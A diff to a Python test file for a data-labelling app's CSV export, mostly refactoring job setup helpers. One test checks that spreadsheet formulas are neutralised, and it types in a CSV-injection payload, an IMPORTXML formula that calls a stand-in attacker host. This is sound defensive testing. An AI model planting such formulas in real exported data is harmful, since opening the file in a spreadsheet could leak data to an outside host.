@@ -17,7 +17,7 @@ from app.core.csv_cells import spreadsheet_safe
 from app.core.db import Database
 from app.jobs import export
 from app.models import Item
-from tests.jobs.factories import create_job, jsonl, upload
+from tests.jobs.factories import active_job, create_job, draft_job, jsonl, upload
 from tests.jobs.test_export import answer_all
 from tests.support import Account
 
@@ -59,13 +59,13 @@ def test_formulas_from_clients_and_annotators_are_neutralised_in_csv_and_exact_i
     make_account: Callable[..., Account],
     db: Database,
 ) -> None:
-    job_id = create_job(client, client_account, TRANSCRIBE, consensus_method="majority_vote")
     rows = [
         {"external_id": formula, "text": formula, "n": -5 - i, "neg": "-7"}
         for i, formula in enumerate(FORMULAS)
     ]
-    assert upload(client, client_account, job_id, jsonl(rows)).status_code == 201
-    assert client.post(f"/v1/jobs/{job_id}/activate", headers=client_account.headers).is_success
+    job_id = active_job(
+        client, client_account, rows, label_schema=TRANSCRIBE, consensus_method="majority_vote"
+    )
     annotators = [make_account("annotator") for _ in range(3)]
     typed = '=IMPORTXML("http://evil.example","//a")'
     answer_all(db, job_id, annotators, lambda n, _: {"words": typed})
@@ -122,9 +122,7 @@ def test_csv_of_a_job_without_items_is_the_header_alone(
 def test_an_item_imported_while_the_csv_streams_cannot_bring_a_column_the_header_lacks(
     client: TestClient, client_account: Account, db: Database, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    job_id = create_job(client, client_account)
-    rows = [{"external_id": "a", "text": "first"}]
-    assert upload(client, client_account, job_id, jsonl(rows)).status_code == 201
+    job_id = draft_job(client, client_account, [{"external_id": "a", "text": "first"}])
     read_keys = export.payload_keys
 
     def keys_then_a_new_item(*args: Any) -> list[str]:
